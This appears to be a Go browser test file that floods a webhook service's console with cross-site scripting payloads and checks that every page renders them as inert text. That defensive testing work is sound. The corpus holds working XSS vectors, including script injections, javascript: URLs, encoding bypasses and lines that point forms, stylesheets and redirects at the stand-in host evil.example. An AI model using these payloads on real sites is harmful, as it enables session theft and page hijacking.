package browser_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// A part of the corpus that a page takes for markup becomes an element with the
// attribute data-xss, opens a dialog, or asks the policy for something: one of
// these is always noticed.
var corpus = []string{
	// Elements, and attributes that run.
	`<script data-xss>alert(1)</script>`,
	`<img data-xss src=x onerror=alert(1)>`,
	`<svg data-xss onload=alert(1)>`,
	`<svg><animate data-xss attributeName=x dur=1s onbegin=alert(1)></svg>`,
	`<details data-xss open ontoggle=alert(1)>`,
	`<iframe data-xss srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data-xss data="javascript:alert(1)"></object>`,
	`<style data-xss>@import url(//evil.example/x.css);</style>`,
	`<b data-xss style="background:url(//evil.example/x)">b</b>`,
	`<form data-xss action=//evil.example><button>Log in</button></form>`,
	`<base data-xss href=//evil.example/>`,
	`<meta data-xss http-equiv=refresh content="0;url=//evil.example">`,
	`<link data-xss rel=stylesheet href=//evil.example/x.css>`,
	// Out of an attribute, an element of text, a comment, a section.
	`"><img data-xss src=x onerror=alert(1)>`,
	`'><img data-xss src=x onerror=alert(1)>`,
	`" data-xss autofocus onfocus=alert(1) x="`,
	`' data-xss autofocus onfocus=alert(1) x='`,
	"` data-xss autofocus onfocus=alert(1) x=`",
	`</title></textarea></style></script></template></noscript><img data-xss src=x onerror=alert(1)>`,
	`--><img data-xss src=x onerror=alert(1)><!--`,
	`]]><img data-xss src=x onerror=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img data-xss title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img data-xss src=x onerror=alert(1)>"></noscript>`,
	// URLs.
	`javascript:alert(document.domain)//`,
	"java\tscript:alert(1)",
	`JaVaScRiPt&colon;alert(1)`,
	`data:text/html,<script data-xss>alert(1)</script>`,
	`//evil.example/x`,
	// Templates, expressions, strings of scripts.
	`{{.}}{{constructor.constructor('alert(1)')()}}${alert(1)}#{alert(1)}<%= alert(1) %>`,
	`';alert(1)//\";alert(1)//`,
	`</script><script data-xss>alert(1)//`,
	// Encodings that something may undo.
	`\u003cimg data-xss src=x onerror=alert(1)\u003e`,
	`&lt;img data-xss src=x onerror=alert(1)&gt;`,
	`%3Cimg%20data-xss%20src=x%20onerror=alert(1)%3E`,
	`＜img data-xss src=x onerror=alert(1)＞`,
	`+ADw-script data-xss+AD4-alert(1)+ADw-/script+AD4-`,
	// Characters that change how a text is read.
	"\u202e<img data-xss src=x onerror=alert(1)>\u202c\u2066x",
	"\u2028\u2029<img data-xss src=x onerror=alert(1)>",
	"a\x00<img data-xss src=x\x00 onerror=alert(1)>",
	"\ufeff\u200b\u200d<img data-xss src=x onerror=alert(1)>",
	"Z\u0351\u036b\u0343" + strings.Repeat("\u0363", 50) + "<img data-xss src=x onerror=alert(1)>",
	strings.Repeat("W", 200) + `<img data-xss src=x onerror=alert(1)>`,
}

// hostile fills every field that a tenant or a receiver controls with the
// corpus, as far as the API accepts it, and returns a world whose names are of
// such objects.
func newHostileWorld(t *testing.T) *world {
	t.Helper()
	w := &world{receiver: newReceiver(t), mail: newMailbox(t), names: map[string]string{}}
	w.server = newServer(t, w.mail.settings...)
	w.visitors[nobody], w.visitors[operator] = newVisitor(t, w.url), newVisitor(t, w.url)
	w.names["account"] = w.call(t, "POST /accounts", object{"uid": "hostile", "name": corpus[1]}).id("id")
	accepted := map[string]int{}
	for i, text := range corpus {
		w.inject(t, i, text, accepted)
	}
	for _, field := range []string{
		"account name", "event type description", "description", "idempotency key", "ordering key", "api version",
		"header", "pause reason", "key name",
	} {
		if accepted[field] < 10 {
			t.Errorf("the API accepts only %d texts of the corpus as %s", accepted[field], field)
		}
	}
	w.infect(t)
	return w
}

// inject puts a text into the fields of objects of its own. What the API
// refuses is left out; accepted counts the rest.
func (w *world) inject(t *testing.T, i int, text string, accepted map[string]int) {
	t.Helper()
	offer := func(field, route string, body object) string {
		got := w.ask(t, w.key, route, body)
		switch {
		case got.status/100 == 2:
			accepted[field]++
		case got.status != 422 && got.status != 409 && got.status != 404 && got.status != 400:
			t.Errorf("%s with %q = %d %s", route, text, got.status, got.text)
		}
		return got.id("id")
	}
	n := fmt.Sprint(i)
	offer("account name", "POST /accounts", object{"name": text})
	offer("account uid", "POST /accounts", object{"uid": text})
	offer("event type", "POST /event-types", object{"name": text})
	offer("event type description", "POST /event-types", object{"name": "hostile.type" + n, "description": text})
	offer("key name", "POST /api-keys", object{"name": text, "scopes": []string{"webhooks:read"}})

	path := "/hostile/" + n
	w.receiver.tell(path, func(out http.ResponseWriter, _ *http.Request) {
		out.Header().Set("X-Hostile", strings.NewReplacer("\x00", "", "\n", "").Replace(text))
		out.Header().Set("Content-Type", "text/html; charset=utf-7")
		out.WriteHeader([]int{200, 500}[i%2])
		_, _ = out.Write([]byte(text))
	})
	endpoint := offer("endpoint", "POST /endpoints", object{
		"account": "hostile", "url": w.receiver.url + path,
		"event_types": []string{"hostile.event" + n}, "retry": retries,
	})
	offer("description", "PATCH /endpoints/"+endpoint, object{"description": text})
	offer("endpoint uid", "PATCH /endpoints/"+endpoint, object{"uid": text})
	offer("header", "PATCH /endpoints/"+endpoint, object{"headers": []object{{"name": "X-A", "value": text}}})
	offer("url", "PATCH /endpoints/"+endpoint, object{"url": w.receiver.url + path + "?q=" + text + "#" + text})
	offer("url", "PATCH /endpoints/"+endpoint, object{"url": text})
	offer("idempotency key", "POST /events", object{"account": "hostile", "type": "hostile.event" + n, "data": text, "idempotency_key": text})
	offer("ordering key", "POST /events", object{"account": "hostile", "type": "hostile.event" + n, "data": text, "ordering_key": text})
	offer("api version", "POST /events", object{
		"account": "hostile", "type": "hostile.event" + n, "data": object{text: []string{text}},
		"api_version": text,
	})
	offer("what an event says", "POST /events", object{
		"account": "hostile", "type": "hostile.event" + n, "data": 1, "subject": text, "channels": []string{text},
		"metadata": object{"a": text, text: "a"}, "internal": object{text: text}, "changed_paths": []string{"$." + text},
	})
	if i%4 == 0 { // an account may have few
		offer("webhook of notices", "POST /notice-destinations",
			object{"account": "hostile", "channel": "slack", "address": w.receiver.url + path + "?q=" + text})
		offer("webhook of notices", "POST /notice-destinations", object{"channel": "slack", "address": w.receiver.url + path + "?q=" + text})
	}
	offer("pause reason", "POST /endpoints/"+endpoint+"/disable", object{"reason": text})
	offer("pause reason", "POST /endpoints/"+endpoint+"/enable", object{"reason": text})
}

// infect makes the objects that the pages of the list name, as hostile as they
// come.
func (w *world) infect(t *testing.T) {
	t.Helper()
	worst := strings.ReplaceAll(strings.Join(corpus, " "), "\x00", "")
	line := strings.Repeat(worst, 1+(250<<10)/len(worst))[:250<<10]
	line = line[:strings.LastIndex(line, "<")] // whole characters
	for _, name := range []string{"healthy", "failing", "open", "paused"} {
		path := "/worst/" + name
		status := map[string]int{"healthy": 200, "paused": 200}[name]
		if status == 0 {
			status = 500
		}
		w.receiver.tell(path, func(out http.ResponseWriter, _ *http.Request) {
			out.Header().Set("X-Hostile", strings.ReplaceAll(worst, "\n", "")[:1500])
			out.Header().Set("Content-Type", "text/html")
			out.WriteHeader(status)
			_, _ = out.Write([]byte(line))
		})
		w.names[name] = w.call(t, "POST /endpoints", object{
			"account": "hostile", "url": w.receiver.url + path + `?q='><img/data-xss/src=x/onerror=alert(1)>`,
			"event_types": []string{"worst." + name},
			"description": corpus[14], "retry": retries, "circuit": object{"preset": "never"},
			"headers": []object{{"name": "X-Hostile", "value": corpus[13]}},
		}).id("id")
	}
	more := object{
		"data":            object{"line": line[:200<<10], corpus[1]: []any{corpus, object{corpus[13]: corpus[14]}}},
		"idempotency_key": "worst " + corpus[1], "api_version": "v1", "subject": corpus[1], "channels": []string{corpus[13]},
		"metadata": object{corpus[1]: corpus[14]}, "internal": object{corpus[13]: corpus[1]},
		"previous": object{corpus[1]: []any{corpus, object{corpus[13]: corpus[14]}}},
	}
	w.names["event"], w.names["dead"] = w.publish(t, "hostile", "worst.failing", more)
	more["idempotency_key"] = "worst " + corpus[13]
	_, w.names["delivered"] = w.publish(t, "hostile", "worst.healthy", more)
	w.call(t, "POST /endpoints/"+w.names["paused"]+"/pause", object{"reason": corpus[1]})
	_, w.names["waiting"] = w.publish(t, "hostile", "worst.paused", nil)
	w.names["key"] = w.call(t, "POST /api-keys", object{"name": corpus[13], "scopes": []string{"events:write"}}).id("id")
	w.call(t, "POST /event-types", object{"name": "order.paid", "description": corpus[1], "example": object{corpus[1]: corpus[13]}})
	w.settled(t, w.names["dead"], "dead")
	w.settled(t, w.names["delivered"], "delivered")
	w.inspect(t, "hostile", corpus[1])
	// Local parts take no < and no ", but what a template or an attribute would take for its own.
	w.destinations(t, "hostile", `'{{.}}&ltimg/data-xss=${x}`+"`@acme.example")
	w.names["replay"] = w.call(t, "POST /replays", object{"endpoint": w.names["failing"], "per_second": 1, "note": corpus[1]}).id("id")
	w.infectRows(t)
}

// infectRows makes a source whose rejected rows have the corpus: what publish keeps of it, and what somebody
// writes by hand in place of the reasons.
func (w *world) infectRows(t *testing.T) {
	t.Helper()
	of := newShop(t)
	rows := 1
	for texts := range slices.Chunk(corpus, 3) { // so that one page shows all
		text := strings.ReplaceAll(strings.Join(texts, " "), "\x00", "")
		of.producer(t, text)
		data, err := json.Marshal(object{text: []string{text}})
		if err != nil {
			t.Fatal(err)
		}
		of.publish(t, fields{
			"account": text, "type": text, "data": string(data), "idempotency_key": text, "ordering_key": text, "api_version": text,
			"subject": text, "channels": []string{text}, "metadata": string(data),
		})
		of.do(t, "reset session authorization")
		rows++
	}
	nobody := "nobody " + corpus[1] // the server knows no such account
	of.publish(t, fields{"account": nobody, "type": "worst.row", "data": `[]`})
	w.names["source"], w.names["typo"] = w.source(t, of, rows), url.QueryEscape(nobody)
	of.do(t, `update postrider.outbox_rejected set code = account, field = type, message = ordering_key where number % 2 = 0`)
}

// TestHostileTextsStayTexts opens every page of both audiences where each field
// has the corpus: no element of it, no dialog, no report of the policy and no
// request to another host comes of it.
func TestHostileTextsStayTexts(t *testing.T) {
	t.Parallel()
	w := newHostileWorld(t)
	w.logIn(t, w.visitors[operator])
	w.enter(t, "hostile", customer)
	for _, p := range pages {
		if p.who == nobody && !strings.Contains(p.path, "{") {
			continue // nobody has written anything on it
		}
		t.Run(p.name, func(t *testing.T) {
			t.Parallel()
			tb := w.visitors[p.who].newTab(t)
			if status := tb.open(w.path(t, p.path)); status != 200 {
				t.Errorf("%s answers %d", p.path, status)
			}
			tb.harmless()
		})
	}
}

// harmless opens all that the page hides, and fails if something of the corpus
// has become more than text.
func (tb *tab) harmless() {
	tb.Helper()
	tb.rest()
	found := eval[[]string](tb, `(() => {
		for (const e of document.querySelectorAll('details')) e.open = true
		const odd = e => e.hasAttribute('data-xss') || [...e.attributes].some(a =>
			a.name.startsWith('on') || a.name == 'style' || ['href', 'src', 'action', 'formaction'].includes(a.name) && /^\s*(javascript|data:text|vbscript)/i.test(a.value))
		return [...document.querySelectorAll('*')].filter(odd).map(e => e.outerHTML.slice(0, 200))
	})()`)
	tb.rest()
	for _, e := range found {
		tb.Errorf("%s has the element %s", tb.path(), e)
	}
}
